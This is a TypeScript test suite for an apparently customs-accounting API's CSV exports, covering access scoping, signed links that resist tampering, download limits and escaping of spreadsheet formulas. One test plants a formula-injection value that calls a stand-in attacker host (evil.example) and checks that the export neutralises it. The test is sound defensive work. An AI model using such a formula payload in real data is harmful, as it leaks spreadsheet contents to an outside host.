/**
 * CSV exports (transaction history, a statement's journal) give each person exactly what their lists
 * give them, and nothing more: the download reads the person's access again and applies the lists'
 * own SQL conditions, another business's rows never appear, an Expired user gets only what their
 * provider submitted, an Orphan user or an agency officer an empty file. The link is the person's,
 * short-lived, bound to their token's lifetime, and cannot be altered. Amounts are the API's exact
 * decimal strings; a cell that a spreadsheet would run as a formula is written as text.
 *
 * Seeded transactions: Maple RM0001 14 (Maple 4, Northern 4, Old Border 3, Coastal 3), Maple RM0002
 * 14, Prairie RM0001 14 (Prairie 7, Northern 7); see test/authorization.matrix.test.ts.
 */
import http from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { signExport } from "../src/modules/export/export-link.js";
import { DEMO_BN } from "../src/seed/demo.js";
import { parseCsv } from "./support/csv.js";
import { startTestServer, type Persona, type TestServer } from "./support/server.js";

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server?.stop());

const COLUMNS = [
  "transactionNumber", "bn15", "importer", "releasedOn", "accountedOn", "dueDate", "late", "submittedBy", "submittedByBn9",
  "currentVersionNo", "currentVersionKind", "currentVersionStatus", "customsDuty", "sima", "excise", "gst", "totalDutiesAndTaxes",
];

const LINK = `query ($filter: TransactionFilter, $orderBy: TransactionOrder) { transactionsExport(filter: $filter, orderBy: $orderBy) { url expiresAt } }`;
type Order = { field: "RELEASED_ON" | "TRANSACTION_NUMBER" | "AMOUNT"; direction?: "ASC" | "DESC" };

/** The response and its text; `bom`: whether the file starts with UTF-8's byte order mark (a decoder drops it from the text). */
async function download(url: string) {
  const res = await fetch(`${server.url}${url}`);
  const bytes = Buffer.from(await res.arrayBuffer());
  const bom = bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]));
  return { res, bom, text: bytes.subarray(bom ? 3 : 0).toString("utf8") };
}

/** A persona's transaction export, parsed: the header and one object per row. */
async function exported(as: Persona, filter?: Record<string, string>, orderBy?: Order) {
  const link = await server.gql(LINK, { as, variables: { filter: filter ?? null, orderBy: orderBy ?? null } });
  expect(link.errors).toBeUndefined();
  const { res, text, bom } = await download(link.data!.transactionsExport.url);
  expect(res.status, text).toBe(200);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="transactions(-\d{9}RM\d{4})?-\d{4}-\d{2}-\d{2}\.csv"$/);
  expect(res.headers.get("cache-control")).toBe("no-store");
  expect(bom).toBe(true); // spreadsheets read it as UTF-8
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual(COLUMNS);
  return rows.map((r) => Object.fromEntries(COLUMNS.map((c, i) => [c, r[i]!])));
}

/** What the persona's own list says, every page: the export must say the same, row for row. */
async function listed(as: Persona, filter?: Record<string, string>, orderBy?: Order) {
  const rows: Record<string, string>[] = [];
  let after: string | null = null;
  for (;;) {
    const page: { data: any; errors?: unknown[] } = await server.gql(
      `query ($after: String, $filter: TransactionFilter, $orderBy: TransactionOrder) { transactions(first: 100, after: $after, filter: $filter, orderBy: $orderBy) {
        edges { node { transactionNumber releasedOn accountedOn dueDate late currentVersionNo totalDutiesAndTaxes programAccount { bn15 }
          submittedBy { bn9 legalName } currentVersion { kind status customsDuty sima excise gst } } }
        pageInfo { hasNextPage endCursor } } }`,
      { as, variables: { after, filter: filter ?? null, orderBy: orderBy ?? null } },
    );
    expect(page.errors).toBeUndefined();
    for (const { node: n } of page.data!.transactions.edges) {
      // The amounts of the latest accepted version: the current one here (the seed has no adjustment under review on these).
      const accepted = n.currentVersion?.status === "ACCEPTED";
      rows.push({
        transactionNumber: n.transactionNumber, bn15: n.programAccount.bn15, releasedOn: n.releasedOn, accountedOn: n.accountedOn, dueDate: n.dueDate, late: String(n.late),
        submittedBy: n.submittedBy.legalName, submittedByBn9: n.submittedBy.bn9, currentVersionNo: String(n.currentVersionNo),
        currentVersionKind: n.currentVersion?.kind ?? "", currentVersionStatus: n.currentVersion?.status ?? "",
        ...(accepted ? { customsDuty: n.currentVersion.customsDuty, sima: n.currentVersion.sima, excise: n.currentVersion.excise, gst: n.currentVersion.gst } : {}),
        totalDutiesAndTaxes: n.totalDutiesAndTaxes ?? "",
      });
    }
    if (!page.data!.transactions.pageInfo.hasNextPage) return rows;
    after = page.data!.transactions.pageInfo.endCursor;
  }
}

const project = (rows: Record<string, string>[], keys: string[]) => rows.map((r) => Object.fromEntries(keys.map((k) => [k, r[k]])));
const LIST_KEYS = ["transactionNumber", "bn15", "releasedOn", "accountedOn", "dueDate", "late", "submittedBy", "submittedByBn9", "currentVersionNo", "currentVersionKind", "currentVersionStatus", "totalDutiesAndTaxes"];

describe("who exports what: the rows of their own list, no more", () => {
  const expected: Record<Persona, number> = { alice: 28, bob: 14, carol: 14, dave: 14, erin: 30, frank: 16, gina: 6, ivan: 14, harry: 0, olga: 0 };
  for (const [persona, count] of Object.entries(expected) as [Persona, number][]) {
    it(`${persona}: ${count} rows, the same as transactions(...) in the same order, amounts to the cent`, async () => {
      const csv = await exported(persona);
      expect(csv).toHaveLength(count);
      const list = await listed(persona);
      expect(project(csv, LIST_KEYS)).toEqual(project(list, LIST_KEYS));
      for (const row of csv) {
        // Money as the API writes it: exact decimals with two places, never a float's digits.
        for (const k of ["customsDuty", "sima", "excise", "gst", "totalDutiesAndTaxes"]) expect(row[k]).toMatch(/^(-?\d+\.\d{2})?$/);
      }
      const withAmounts = list.filter((r) => r.customsDuty !== undefined);
      expect(project(csv.filter((r) => withAmounts.some((w) => w.transactionNumber === r.transactionNumber)), ["customsDuty", "sima", "excise", "gst"])).toEqual(
        project(withAmounts, ["customsDuty", "sima", "excise", "gst"]),
      );
    });
  }

  it("another business's rows never appear: ivan gets Prairie's only, alice never Prairie's", async () => {
    const ivan = await exported("ivan");
    expect(new Set(ivan.map((r) => r.bn15))).toEqual(new Set(["711223347RM0001"]));
    const alice = await exported("alice");
    expect(alice.some((r) => r.bn15.startsWith(DEMO_BN.prairie))).toBe(false);
    expect(new Set(alice.map((r) => r.importer))).toEqual(new Set(["Maple Leaf Windows & Doors Inc."]));
  });

  it("gina (Expired) gets only what Old Border submitted for Maple Leaf", async () => {
    const gina = await exported("gina");
    expect(gina).toHaveLength(6);
    expect(new Set(gina.map((r) => r.submittedByBn9))).toEqual(new Set([DEMO_BN.oldBorder]));
  });

  it("frank gets what Northern or Maple Leaf submitted, never Coastal's or Old Border's", async () => {
    const frank = await exported("frank");
    expect(new Set(frank.map((r) => r.submittedByBn9))).toEqual(new Set([DEMO_BN.northern, DEMO_BN.mapleLeaf]));
  });

  it("a filter narrows the export as it narrows the list, and a bad one is refused when the link is asked for", async () => {
    const filter = { bn15: "123456782RM0002", releasedFrom: "2000-01-01" };
    const csv = await exported("alice", filter);
    expect(csv).toHaveLength(14);
    expect(project(csv, LIST_KEYS)).toEqual(project(await listed("alice", filter), LIST_KEYS));
    const bad = await server.gql(LINK, { as: "alice", variables: { filter: { bn15: "123456782XX0001" } } });
    expect(bad.errors?.[0]?.extensions).toMatchObject({ code: "BAD_USER_INPUT", field: "filter.bn15" });
  });

  it("the list's orders and its search filters give the export the list's rows in the list's order", async () => {
    const cases: [Record<string, string> | undefined, Order | undefined][] = [
      [undefined, { field: "AMOUNT", direction: "ASC" }],
      [undefined, { field: "AMOUNT" }],
      [undefined, { field: "TRANSACTION_NUMBER", direction: "ASC" }],
      [undefined, { field: "RELEASED_ON", direction: "ASC" }],
      [{ submitterBn9: DEMO_BN.northern, amountMin: "100.00" }, { field: "AMOUNT", direction: "DESC" }],
      [{ status: "ACCEPTED", transactionNumber: "1" }, undefined],
    ];
    for (const [filter, orderBy] of cases) {
      const csv = await exported("erin", filter, orderBy);
      const list = await listed("erin", filter, orderBy);
      expect(list.length, JSON.stringify({ filter, orderBy })).toBeGreaterThan(0);
      expect(project(csv, LIST_KEYS), JSON.stringify({ filter, orderBy })).toEqual(project(list, LIST_KEYS));
    }
    // The amount order is not the default one: the file follows the order asked for.
    const byAmount = await exported("erin", undefined, { field: "AMOUNT", direction: "ASC" });
    expect(byAmount.map((r) => r.transactionNumber)).not.toEqual((await exported("erin")).map((r) => r.transactionNumber));
    const bad = await server.gql(LINK, { as: "erin", variables: { filter: { amountMin: "9.00", amountMax: "1.00" } } });
    expect(bad.errors?.[0]?.extensions).toMatchObject({ code: "BAD_USER_INPUT", field: "filter.amountMin" });
  });

  it("signed out, there is no link to ask for (401)", async () => {
    const res = await server.gql(LINK);
    expect(res.status).toBe(401);
    expect(res.errors?.[0]?.extensions?.code).toBe("UNAUTHENTICATED");
  });
});

describe("the link", () => {
  it("expires within five minutes, and never after the token it was asked with", async () => {
    const res = await server.gql(LINK, { as: "alice" });
    const expiresAt = Date.parse(res.data!.transactionsExport.expiresAt);
    expect(expiresAt - Date.now()).toBeGreaterThan(290_000);
    expect(expiresAt - Date.now()).toBeLessThanOrEqual(300_000);
    const { loadDevIssuer } = await import("../src/auth/identity.js");
    const { inject } = await import("vitest");
    const short = await (await loadDevIssuer(inject("dataDir"))).sign("demo|alice", { expiresIn: "60s" });
    const [, claims] = short.split(".");
    const exp = JSON.parse(Buffer.from(claims!, "base64url").toString()).exp as number;
    const bound = await server.gql(LINK, { token: short });
    expect(Date.parse(bound.data!.transactionsExport.expiresAt)).toBe(exp * 1000);
  });

  it("an expired link, an altered one, or one made with another key is refused (401), and says which", async () => {
    const [alice] = await server.db.query(`SELECT id FROM users WHERE username = 'alice'`);
    const expired = await signExport(server.db, { userId: alice.id, subject: "demo|alice", request: { kind: "transactions", filter: {} }, expiresAt: Math.floor(Date.now() / 1000) - 1 });
    const gone = await download(`/exports/transactions/${expired}`);
    expect(gone.res.status).toBe(401);
    expect(JSON.parse(gone.text).errors[0]).toMatchObject({ extensions: { code: "UNAUTHENTICATED" }, message: expect.stringMatching(/has expired/) });

    const { url } = (await server.gql(LINK, { as: "ivan" })).data!.transactionsExport;
    // ivan's link, rewritten to say alice: the signature no longer matches.
    const [payload, signature] = url.split("/").at(-1)!.split(".");
    const forged = JSON.parse(Buffer.from(payload, "base64url").toString());
    forged.u = alice.id;
    forged.s = "demo|alice";
    const altered = await download(`/exports/transactions/${Buffer.from(JSON.stringify(forged)).toString("base64url")}.${signature}`);
    expect(altered.res.status).toBe(401);
    expect(JSON.parse(altered.text).errors[0].message).toMatch(/is not valid/);
    // The same link under another kind of export, and garbage.
    expect((await download(url.replace("/transactions/", "/postings/"))).res.status).toBe(401);
    expect((await download("/exports/transactions/nonsense")).res.status).toBe(401);
  });

  it("grants nothing of its own: access lost between the link and the download is lost for the download", async () => {
    const { url } = (await server.gql(LINK, { as: "dave" })).data!.transactionsExport;
    const [dave] = await server.db.query(`SELECT id FROM users WHERE username = 'dave'`);
    await server.db.query(`UPDATE business_memberships SET status = 'REMOVED' WHERE user_id = $1`, [dave.id]);
    try {
      const { res, text } = await download(url);
      expect(res.status).toBe(200);
      expect(parseCsv(text)).toHaveLength(1); // the header only
    } finally {
      await server.db.query(`UPDATE business_memberships SET status = 'ACTIVE' WHERE user_id = $1`, [dave.id]);
    }
    expect(parseCsv((await download(url)).text)).toHaveLength(15);
  });
});

describe("a statement's journal", () => {
  const POSTINGS = ["lineNo", "postedOn", "kind", "description", "transactionNumber", "amount", "openAmount", "dueOn"];

  async function statementOf(as: Persona, bn15: string) {
    const res = await server.gql(
      `query ($bn15: String!) { programAccount(bn15: $bn15) { statements(first: 4) { edges { node { id cycleEnd view postingsExport { url }
        currentCharges corrections credits interestAndPenalties payments refunds previousBalance totalPayable
        postings(first: 60) { edges { node { lineNo postedOn kind description amount openAmount dueOn transaction { transactionNumber } } } } } } } } }`,
      { as, variables: { bn15 } },
    );
    expect(res.errors).toBeUndefined();
    // The statement with the most lines: one with charges, payments and (for a restricted viewer) lines left out.
    return res.data!.programAccount.statements.edges.map((e: any) => e.node).sort((a: any, b: any) => b.postings.edges.length - a.postings.edges.length)[0];
  }

  async function postingsCsv(url: string) {
    const { res, text } = await download(url);
    expect(res.status, text).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="statement-\d{9}RM\d{4}-\d{4}-\d{2}-\d{2}\.csv"$/);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(POSTINGS);
    return rows;
  }

  /** A journal's CSV lines summed as Statement's totals are (auth/money.ts), in cents. */
  function totalsOf(rows: string[][]) {
    const t = { currentCharges: 0n, corrections: 0n, credits: 0n, interestAndPenalties: 0n, payments: 0n, refunds: 0n };
    for (const [, , kind, , , amount] of rows) {
      const a = BigInt(amount!.replace(".", ""));
      if (kind === "CHARGE") t.currentCharges += a;
      else if ((kind === "CORRECTION" || kind === "ADJUSTMENT") && a > 0n) t.corrections += a;
      else if (kind === "CORRECTION" || kind === "ADJUSTMENT" || (kind === "PENALTY" && a < 0n)) t.credits -= a;
      else if (kind === "INTEREST" || kind === "PENALTY") t.interestAndPenalties += a;
      else if (kind === "PAYMENT") t.payments -= a;
      else if (kind === "REFUND") t.refunds += a;
    }
    const money = (c: bigint) => `${c < 0n ? "-" : ""}${(c < 0n ? -c : c) / 100n}.${String((c < 0n ? -c : c) % 100n).padStart(2, "0")}`;
    return Object.fromEntries(Object.entries(t).map(([k, v]) => [k, money(v)]));
  }

  const asRows = (s: any) =>
    s.postings.edges.map(({ node: p }: any) => [String(p.lineNo), p.postedOn, p.kind, p.description, p.transaction?.transactionNumber ?? "", p.amount, p.openAmount ?? "", p.dueOn ?? ""]);

  it("alice (FULL) gets every line, payments' negative amounts as numbers", async () => {
    const s = await statementOf("alice", "123456782RM0001");
    expect(s.view).toBe("FULL");
    const rows = await postingsCsv(s.postingsExport.url);
    expect(rows).toEqual(asRows(s));
    expect(rows.length).toBeGreaterThan(0);
    const payments = rows.filter((r) => r[2] === "PAYMENT");
    expect(payments.length).toBeGreaterThan(0);
    for (const p of payments) expect(p[5]).toMatch(/^-\d+\.\d{2}$/); // not '-500.00: a number a spreadsheet adds up
  });

  it("erin (RESTRICTED on Maple Leaf) gets the lines her list shows, fewer than alice's", async () => {
    const erin = await statementOf("erin", "123456782RM0001");
    expect(erin.view).toBe("RESTRICTED");
    const rows = await postingsCsv(erin.postingsExport.url);
    expect(rows).toEqual(asRows(erin));
    // No amount GraphQL withholds from her: what is left open of a line depends on every debt of the
    // account (how payments were allocated), so that column is empty for her, though alice's is not.
    expect(rows.map((r) => r[6])).toEqual(rows.map(() => ""));
    const aliceRows = await postingsCsv((await server.gql(`query ($id: ID!) { node(id: $id) { ... on Statement { postingsExport { url } } } }`, { as: "alice", variables: { id: erin.id } })).data!.node.postingsExport.url);
    expect(aliceRows.filter((r) => rows.some((e) => e[0] === r[0])).some((r) => r[6] !== "")).toBe(true);
    // What her lines add up to is exactly what her statement's totals say (one meaning in both views),
    // and the totals only the whole journal can tell are not hers.
    expect(totalsOf(rows)).toEqual({
      currentCharges: erin.currentCharges, corrections: erin.corrections, credits: erin.credits,
      interestAndPenalties: erin.interestAndPenalties, payments: erin.payments, refunds: erin.refunds,
    });
    expect(Number(erin.currentCharges)).toBeGreaterThan(0);
    // Alice's file of the same statement adds up to more: there was something to leave out.
    expect(totalsOf(aliceRows)).not.toEqual(totalsOf(rows));
    expect([erin.previousBalance, erin.totalPayable]).toEqual([null, null]);
    const alice = (await statementOf("alice", "123456782RM0001")).postings.edges.length;
    const full = (await server.gql(`query ($id: ID!) { node(id: $id) { ... on Statement { postings(first: 100) { edges { node { id } } } } } }`, { as: "alice", variables: { id: erin.id } }))
      .data!.node.postings.edges.length;
    expect(rows.length).toBeLessThan(full);
    expect(alice).toBeGreaterThan(0);
  });

  it("a payment's reference and card digits only for those allowed payment details: alice, not dave (a Reader)", async () => {
    const references = async (as: Persona) => {
      const s = await statementOf(as, "123456782RM0002");
      const rows = await postingsCsv(s.postingsExport.url);
      expect(rows).toEqual(asRows(s));
      return rows.filter((r) => r[2] === "PAYMENT").map((r) => r[3]!);
    };
    const alice = await references("alice");
    const dave = await references("dave");
    expect(alice.length).toBeGreaterThan(0);
    expect(dave).toHaveLength(alice.length);
    for (const d of alice) expect(d).toMatch(/, CARM-\d{8}-[0-9A-F]{8}$/);
    for (const d of dave) expect(d).not.toMatch(/CARM-/);
  });

  it("a statement out of reach when the link is used is NOT_FOUND (404), like another business's", async () => {
    const s = await statementOf("alice", "123456782RM0001");
    const [ivan] = await server.db.query(`SELECT id FROM users WHERE username = 'ivan'`);
    const sid = (await server.db.query(`SELECT id FROM statements s WHERE s.program_account_id = (SELECT id FROM program_accounts WHERE bn15 = '123456782RM0001') LIMIT 1`))[0].id;
    expect(s).toBeTruthy();
    const token = await signExport(server.db, { userId: ivan.id, subject: "demo|ivan", request: { kind: "postings", statementId: sid }, expiresAt: Math.floor(Date.now() / 1000) + 60 });
    const { res, text } = await download(`/exports/postings/${token}`);
    expect(res.status).toBe(404);
    expect(JSON.parse(text).errors[0].extensions.code).toBe("NOT_FOUND");
  });
});

describe("for people who open it in a spreadsheet", () => {
  it("a text cell that would run as a formula is written as text; quotes and commas survive", async () => {
    const [coastal] = await server.db.query(`SELECT legal_name FROM businesses WHERE bn9 = $1`, [DEMO_BN.coastal]);
    const evil = `=HYPERLINK("http://evil.example/?"&A1, "Coastal, ""Freight""")`;
    await server.db.query(`UPDATE businesses SET legal_name = $1 WHERE bn9 = $2`, [evil, DEMO_BN.coastal]);
    try {
      const rows = await exported("alice");
      const coastalRows = rows.filter((r) => r.submittedByBn9 === DEMO_BN.coastal);
      expect(coastalRows.length).toBe(6);
      for (const r of coastalRows) expect(r.submittedBy).toBe(`'${evil}`);
    } finally {
      await server.db.query(`UPDATE businesses SET legal_name = $1 WHERE bn9 = $2`, [coastal.legal_name, DEMO_BN.coastal]);
    }
  });
});

describe("downloads are bounded", () => {
  it("one at a time per person (429), a few at a time per process (503); a download cut off frees its slot", async () => {
    const narrow = await startTestServer({ EXPORT_MAX_CONCURRENT: "1" });
    const account = (await narrow.db.query(`SELECT id, business_id FROM program_accounts WHERE bn15 = '123456782RM0001'`))[0];
    // Enough rows that an unread download fills the socket's buffers and waits for its reader.
    await narrow.db.query(
      `INSERT INTO transactions (transaction_number, program_account_id, submitted_by_business_id, released_on, current_version_no, total_duties_and_taxes)
       SELECT lpad((90000000000000 + g)::text, 14, '0'), $1, $2, DATE '2026-01-01', 1, 100 FROM generate_series(1, 40000) g`,
      [account.id, account.business_id],
    );
    const linkOf = async (as: Persona) => (await narrow.gql(LINK, { as })).data!.transactionsExport.url as string;
    const first = await linkOf("alice");
    const stalled = await new Promise<http.ClientRequest>((resolve) => {
      const req = http.get(`${narrow.url}${first}`, (res) => {
        expect(res.statusCode).toBe(200);
        res.pause(); // read nothing more
        resolve(req);
      });
      req.on("error", () => undefined);
    });
    try {
      const again = await fetch(`${narrow.url}${await linkOf("alice")}`);
      expect(again.status).toBe(429);
      expect(again.headers.get("retry-after")).toBe("10");
      expect(((await again.json()) as any).errors[0].extensions.code).toBe("RATE_LIMITED");
      const other = await fetch(`${narrow.url}${await linkOf("bob")}`);
      expect(other.status).toBe(503);
      expect(other.headers.get("retry-after")).toBe("5");
      expect(((await other.json()) as any).errors[0].extensions.code).toBe("SERVICE_UNAVAILABLE");
    } finally {
      stalled.destroy();
    }
    // The cut download gave back its slot and its connection: the next one runs to the end.
    let res: Response | undefined;
    for (let i = 0; i < 50; i++) {
      res = await fetch(`${narrow.url}${await linkOf("bob")}`);
      if (res.status === 200) break;
      await res.text();
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(res!.status).toBe(200);
    const body = Buffer.from(await res!.arrayBuffer()).subarray(3).toString("utf8");
    // The header, bob's 14 and the 40,000, each line ended by CRLF.
    expect(body.endsWith("\r\n")).toBe(true);
    expect(body.split("\r\n").length - 1).toBe(1 + 14 + 40000);
    // These rows have no charge posted: their dueDate is their billing period's, as the API says it.
    const row = parseCsv(body).find((r) => r[0] === "90000000000001")!;
    const [inserted] = await narrow.db.query(`SELECT id FROM transactions WHERE transaction_number = '90000000000001'`);
    const api = await narrow.gql(`query ($id: ID!) { node(id: $id) { ... on Transaction { accountedOn dueDate } } }`, {
      as: "bob",
      variables: { id: Buffer.from(`Transaction:${inserted.id}`).toString("base64url") },
    });
    expect(api.errors).toBeUndefined();
    expect([row[4], row[5]]).toEqual([api.data!.node.accountedOn, api.data!.node.dueDate]);
    await narrow.stop();
  });
});
